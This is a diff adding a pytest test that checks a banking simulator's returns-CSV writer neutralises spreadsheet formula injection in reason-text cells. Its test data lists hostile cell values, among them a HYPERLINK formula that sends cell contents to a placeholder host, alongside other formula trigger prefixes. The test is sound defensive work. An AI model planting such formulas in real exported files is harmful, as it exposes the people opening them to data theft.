@@ -454,6 +454,25 @@ def test_returns_csv_round_trip(tmp_path):
     assert banksim.read_returns_csv(banksim.write_returns_csv([], tmp_path / "empty.csv")) == []
 
 
+def test_returns_csv_cells_cannot_be_spreadsheet_formulas(tmp_path):
+    """Operations staff open the returns file in a spreadsheet: a reason text that begins like a formula is
+    written as text, the reference stays a number, and the reader refuses the altered text rather than
+    guessing (the reasons we write never begin with a trigger, so the round trip above is unaffected)."""
+    import csv
+    import io
+
+    from app import csvsafe
+
+    hostile = ['=HYPERLINK("http://x"&A1,"x")', "+1", "-1+1", "@SUM(1)", "\t=1", "\r=1"]
+    rows = [banksim.ReturnRow(1000 + i, "9", value) for i, value in enumerate(hostile)]
+    path = banksim.write_returns_csv(rows, tmp_path / "returns.csv")
+    header, *lines = csv.reader(io.StringIO(path.read_bytes().decode("utf-8"), newline=""))
+    assert lines == [[str(1000 + i), "9", "'" + value] for i, value in enumerate(hostile)]
+    assert all(csvsafe.restore(line[2]) == value for line, value in zip(lines, hostile))
+    with pytest.raises(banksim.ReturnsCsvError, match="2 行目"):
+        banksim.read_returns_csv(path)
+
+
 @pytest.mark.parametrize(
     ("content", "line"),
     [
